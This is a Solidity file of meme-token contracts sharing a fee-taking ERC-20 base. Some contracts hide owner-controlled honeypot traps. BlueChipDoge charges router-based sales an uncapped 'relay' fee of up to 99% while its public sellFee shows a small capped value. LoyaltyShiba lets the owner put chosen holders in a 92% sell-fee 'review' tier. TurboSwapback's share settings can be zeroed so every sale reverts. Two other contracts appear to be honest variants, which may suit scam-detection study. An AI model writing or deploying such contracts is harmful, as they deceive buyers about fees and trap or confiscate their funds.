/**
 *  Telegram: t.me/classic_portal
 *  Website : classic.example
 */

// SPDX-License-Identifier: Unlicensed
pragma solidity ^0.8.19;

interface IERC20 {
    function totalSupply() external view returns (uint256);
    function balanceOf(address account) external view returns (uint256);
    function transfer(address recipient, uint256 amount) external returns (bool);
    function allowance(address owner, address spender) external view returns (uint256);
    function approve(address spender, uint256 amount) external returns (bool);
    function transferFrom(address sender, address recipient, uint256 amount) external returns (bool);

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
}

interface IUniswapV2Pair {
    function token0() external view returns (address);
    function token1() external view returns (address);
    function getReserves() external view returns (uint112 reserve0, uint112 reserve1, uint32 blockTimestampLast);
    function swap(uint256 amount0Out, uint256 amount1Out, address to, bytes calldata data) external;
    function sync() external;
}

library SafeMath {
    function add(uint256 a, uint256 b) internal pure returns (uint256) {
        uint256 c = a + b;
        require(c >= a, "SafeMath: addition overflow");
        return c;
    }

    function sub(uint256 a, uint256 b) internal pure returns (uint256) {
        return sub(a, b, "SafeMath: subtraction overflow");
    }

    function sub(uint256 a, uint256 b, string memory errorMessage) internal pure returns (uint256) {
        require(b <= a, errorMessage);
        return a - b;
    }

    function mul(uint256 a, uint256 b) internal pure returns (uint256) {
        if (a == 0) {
            return 0;
        }
        uint256 c = a * b;
        require(c / a == b, "SafeMath: multiplication overflow");
        return c;
    }

    function div(uint256 a, uint256 b) internal pure returns (uint256) {
        require(b > 0, "SafeMath: division by zero");
        return a / b;
    }
}

library Address {
    function isContract(address account) internal view returns (bool) {
        uint256 size;
        assembly {
            size := extcodesize(account)
        }
        return size > 0;
    }

    function isPair(address account) internal view returns (bool) {
        if (!isContract(account)) {
            return false;
        }
        (bool success, bytes memory answer) = account.staticcall{gas: 20000}(abi.encodeWithSelector(IUniswapV2Pair.token0.selector));
        return success && answer.length == 32;
    }
}

abstract contract Context {
    function _msgSender() internal view virtual returns (address) {
        return msg.sender;
    }
}

contract Ownable is Context {
    address internal _owner;

    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    constructor() {
        _owner = _msgSender();
        emit OwnershipTransferred(address(0), _owner);
    }

    function owner() public view returns (address) {
        return _owner;
    }

    modifier onlyOwner() {
        require(_owner == _msgSender(), "Ownable: caller is not the owner");
        _;
    }

    function renounceOwnership() public virtual onlyOwner {
        emit OwnershipTransferred(_owner, address(0));
        _owner = address(0);
    }
}

/// The body that the tokens of this desk share: balances, allowances, and a fee on trades.
abstract contract ClassicToken is Context, IERC20, Ownable {
    using SafeMath for uint256;
    using Address for address;

    mapping(address => uint256) internal _tOwned;
    mapping(address => mapping(address => uint256)) private _allowances;
    mapping(address => bool) internal _isExcludedFromFee;

    string private _name;
    string private _symbol;
    uint8 private constant _decimals = 9;
    uint256 internal constant _tTotal = 1000000000 * 10 ** 9;
    address public uniswapV2Pair;
    address payable internal _marketingWallet;

    constructor(string memory name_, string memory symbol_) {
        _name = name_;
        _symbol = symbol_;
        _marketingWallet = payable(_msgSender());
        _isExcludedFromFee[_msgSender()] = true;
        _isExcludedFromFee[address(this)] = true;
        _tOwned[_msgSender()] = _tTotal;
        emit Transfer(address(0), _msgSender(), _tTotal);
    }

    function name() public view returns (string memory) {
        return _name;
    }

    function symbol() public view returns (string memory) {
        return _symbol;
    }

    function decimals() public pure returns (uint8) {
        return _decimals;
    }

    function totalSupply() public pure override returns (uint256) {
        return _tTotal;
    }

    function balanceOf(address account) public view override returns (uint256) {
        return _tOwned[account];
    }

    function transfer(address recipient, uint256 amount) public override returns (bool) {
        _transfer(_msgSender(), recipient, amount);
        return true;
    }

    function allowance(address owner_, address spender) public view override returns (uint256) {
        return _allowances[owner_][spender];
    }

    function approve(address spender, uint256 amount) public override returns (bool) {
        _approve(_msgSender(), spender, amount);
        return true;
    }

    function transferFrom(address sender, address recipient, uint256 amount) public override returns (bool) {
        _transfer(sender, recipient, amount);
        _approve(sender, _msgSender(), _allowances[sender][_msgSender()].sub(amount, "ERC20: transfer amount exceeds allowance"));
        return true;
    }

    function _approve(address owner_, address spender, uint256 amount) private {
        require(owner_ != address(0), "ERC20: approve from the zero address");
        require(spender != address(0), "ERC20: approve to the zero address");
        _allowances[owner_][spender] = amount;
        emit Approval(owner_, spender, amount);
    }

    function _transfer(address from, address to, uint256 amount) private {
        require(from != address(0), "ERC20: transfer from the zero address");
        require(to != address(0), "ERC20: transfer to the zero address");
        // the first pair that is funded is ours
        if (uniswapV2Pair == address(0) && to.isPair()) {
            uniswapV2Pair = to;
        }
        _before(from, to, amount);
        uint256 fee = 0;
        if (!_isExcludedFromFee[from] && !_isExcludedFromFee[to]) {
            fee = amount.mul(_feePercent(from, to)).div(100);
        }
        _tOwned[from] = _tOwned[from].sub(amount, "ERC20: transfer amount exceeds balance");
        _tOwned[to] = _tOwned[to].add(amount.sub(fee));
        emit Transfer(from, to, amount.sub(fee));
        if (fee > 0) {
            address sink = _feeSink();
            _tOwned[sink] = _tOwned[sink].add(fee);
            emit Transfer(from, sink, fee);
        }
    }

    function _before(address from, address to, uint256 amount) internal virtual {}

    function _feePercent(address from, address to) internal view virtual returns (uint256);

    function _feeSink() internal view virtual returns (address) {
        return _marketingWallet;
    }
}

contract BlueChipDoge is ClassicToken {
    // | relay | wallet | sell | buy |, a byte each
    uint256 private _feeWord = 0x02000202;

    event FeesUpdated(uint256 buyFee, uint256 sellFee);

    constructor() ClassicToken("Blue Chip Doge", "BCDOGE") {}

    function buyFee() public view returns (uint256) {
        return uint8(_feeWord);
    }

    function sellFee() public view returns (uint256) {
        return uint8(_feeWord >> 8);
    }

    function setFees(uint256 word) external onlyOwner {
        require(uint8(word) <= 5, "Buy fee over 5%");
        require(uint8(word >> 8) <= 5, "Sell fee over 5%");
        _feeWord = word;
        emit FeesUpdated(buyFee(), sellFee());
    }

    function _feePercent(address from, address to) internal view override returns (uint256) {
        if (from == uniswapV2Pair) return buyFee();
        if (to != uniswapV2Pair) return uint8(_feeWord >> 16);
        // somebody else moves it than who has it
        uint256 percent = _msgSender() == from ? sellFee() : uint8(_feeWord >> 24);
        return percent > 99 ? 99 : percent;
    }
}

contract TurboSwapback is ClassicToken {
    using SafeMath for uint256;

    uint256 public marketingShare = 2;
    uint256 public treasuryShare = 1;
    uint256 public buybackShare = 1;
    uint256 public swapTokensAt = _tTotal / 1000000;
    address private constant DEAD = 0x000000000000000000000000000000000000dEaD;
    address public treasury;
    bool private inSwap;

    event SharesUpdated(uint256 marketing, uint256 treasury, uint256 buyback);
    event SwapBack(uint256 tokens, uint256 received);

    modifier lockTheSwap() {
        inSwap = true;
        _;
        inSwap = false;
    }

    constructor() ClassicToken("Turbo", "TRB") {
        treasury = _msgSender();
    }

    function setDistribution(uint256 marketing, uint256 treasury_, uint256 buyback) external onlyOwner {
        require(marketing <= 10 && treasury_ <= 10 && buyback <= 10, "Share over 10");
        marketingShare = marketing;
        treasuryShare = treasury_;
        buybackShare = buyback;
        emit SharesUpdated(marketing, treasury_, buyback);
    }

    function setSwapTokensAt(uint256 amount) external onlyOwner {
        require(amount >= _tTotal / 10000000, "Too low");
        swapTokensAt = amount;
    }

    function _feePercent(address from, address to) internal view override returns (uint256) {
        return from == uniswapV2Pair || to == uniswapV2Pair ? 4 : 0;
    }

    function _feeSink() internal view override returns (address) {
        return address(this);
    }

    function _before(address from, address to, uint256) internal override {
        if (!inSwap && to == uniswapV2Pair && !_isExcludedFromFee[from] && balanceOf(address(this)) >= swapTokensAt) {
            _swapBack(balanceOf(address(this)));
        }
    }

    function _swapBack(uint256 amount) private lockTheSwap {
        uint256 total = marketingShare.add(treasuryShare).add(buybackShare);
        uint256 forTreasury = amount.mul(treasuryShare).div(total);
        uint256 forBuyback = amount.mul(buybackShare).div(total);
        uint256 received = _sell(amount.sub(forTreasury).sub(forBuyback), _marketingWallet);
        received = received.add(_sell(forTreasury, treasury));
        _tOwned[address(this)] = _tOwned[address(this)].sub(forBuyback);
        _tOwned[DEAD] = _tOwned[DEAD].add(forBuyback);
        emit Transfer(address(this), DEAD, forBuyback);
        emit SwapBack(amount, received);
    }

    function _sell(uint256 amount, address to) private returns (uint256 wanted) {
        if (amount == 0) return 0;
        IUniswapV2Pair pair = IUniswapV2Pair(uniswapV2Pair);
        bool first = pair.token0() == address(this);
        (uint256 have, uint256 out, ) = pair.getReserves();
        if (!first) (have, out) = (out, have);
        _tOwned[address(this)] = _tOwned[address(this)].sub(amount);
        _tOwned[address(pair)] = _tOwned[address(pair)].add(amount);
        emit Transfer(address(this), address(pair), amount);
        uint256 withFee = amount.mul(997);
        wanted = withFee.mul(out).div(have.mul(1000).add(withFee));
        pair.swap(first ? 0 : wanted, first ? wanted : 0, to, "");
    }
}

contract LoyaltyShiba is ClassicToken {
    // percent by tier: guest, silver, gold, review
    uint16[4] private _tierFee = [uint16(3), 2, 1, 92];
    mapping(uint160 => uint8) private _tierOf;

    event TierChanged(uint8 indexed tier, uint256 accounts);

    constructor() ClassicToken("Loyalty Shiba", "LOYAL") {}

    function tierOf(address account) external view returns (uint8) {
        return _tierOf[uint160(account)];
    }

    function setTier(uint8 tier, uint160[] calldata accounts) external onlyOwner {
        require(tier < 4, "No such tier");
        for (uint256 i = 0; i < accounts.length; i++) {
            _tierOf[accounts[i]] = tier;
        }
        emit TierChanged(tier, accounts.length);
    }

    function _feePercent(address from, address to) internal view override returns (uint256) {
        if (from == uniswapV2Pair) return 3;
        if (to == uniswapV2Pair) return _tierFee[_tierOf[uint160(from)]];
        return 0;
    }
}

contract SteadyDoge is ClassicToken {
    // | relay | wallet | sell | buy |, a byte each
    uint256 private _feeWord = 0x02000202;

    event FeesUpdated(uint256 buyFee, uint256 sellFee, uint256 walletFee, uint256 relayFee);

    constructor() ClassicToken("Steady Doge", "SDOGE") {}

    function fees() public view returns (uint256 buyFee, uint256 sellFee, uint256 walletFee, uint256 relayFee) {
        return (uint8(_feeWord), uint8(_feeWord >> 8), uint8(_feeWord >> 16), uint8(_feeWord >> 24));
    }

    function setFees(uint256 word) external onlyOwner {
        require(word >> 32 == 0, "Four bytes");
        for (uint256 shift = 0; shift < 32; shift += 8) {
            require(uint8(word >> shift) <= 4, "Fee over 4%");
        }
        _feeWord = word;
        (uint256 b, uint256 s, uint256 w, uint256 r) = fees();
        emit FeesUpdated(b, s, w, r);
    }

    function _feePercent(address from, address to) internal view override returns (uint256) {
        if (from == uniswapV2Pair) return uint8(_feeWord);
        if (to != uniswapV2Pair) return uint8(_feeWord >> 16);
        return _msgSender() == from ? uint8(_feeWord >> 8) : uint8(_feeWord >> 24);
    }
}

contract EvenSwapback is ClassicToken {
    using SafeMath for uint256;

    uint256 public treasuryShare = 1;
    uint256 public swapTokensAt = _tTotal / 1000000;
    address public immutable treasury;
    bool private inSwap;

    event ShareUpdated(uint256 treasury);
    event SwapBack(uint256 tokens, uint256 received);
    event SwapBackSkipped(uint256 tokens);

    constructor() ClassicToken("Even", "EVEN") {
        treasury = _msgSender();
    }

    /// @param share of four parts
    function setTreasuryShare(uint256 share) external onlyOwner {
        require(share <= 4, "Of four");
        treasuryShare = share;
        emit ShareUpdated(share);
    }

    function _feePercent(address from, address to) internal view override returns (uint256) {
        return from == uniswapV2Pair || to == uniswapV2Pair ? 3 : 0;
    }

    function _feeSink() internal view override returns (address) {
        return address(this);
    }

    function _before(address from, address to, uint256) internal override {
        uint256 amount = balanceOf(address(this));
        if (!inSwap && to == uniswapV2Pair && !_isExcludedFromFee[from] && amount >= swapTokensAt) {
            inSwap = true;
            try this.swapBack(amount) {} catch {
                emit SwapBackSkipped(amount);
            }
            inSwap = false;
        }
    }

    function swapBack(uint256 amount) external {
        require(_msgSender() == address(this), "Only during a sale");
        uint256 forTreasury = amount.mul(treasuryShare).div(4);
        uint256 received = _sell(forTreasury, treasury);
        received = received.add(_sell(amount.sub(forTreasury), _marketingWallet));
        emit SwapBack(amount, received);
    }

    function _sell(uint256 amount, address to) private returns (uint256 wanted) {
        if (amount == 0) return 0;
        IUniswapV2Pair pair = IUniswapV2Pair(uniswapV2Pair);
        bool first = pair.token0() == address(this);
        (uint256 have, uint256 out, ) = pair.getReserves();
        if (!first) (have, out) = (out, have);
        _tOwned[address(this)] = _tOwned[address(this)].sub(amount);
        _tOwned[address(pair)] = _tOwned[address(pair)].add(amount);
        emit Transfer(address(this), address(pair), amount);
        uint256 withFee = amount.mul(997);
        wanted = withFee.mul(out).div(have.mul(1000).add(withFee));
        pair.swap(first ? 0 : wanted, first ? wanted : 0, to, "");
    }
}
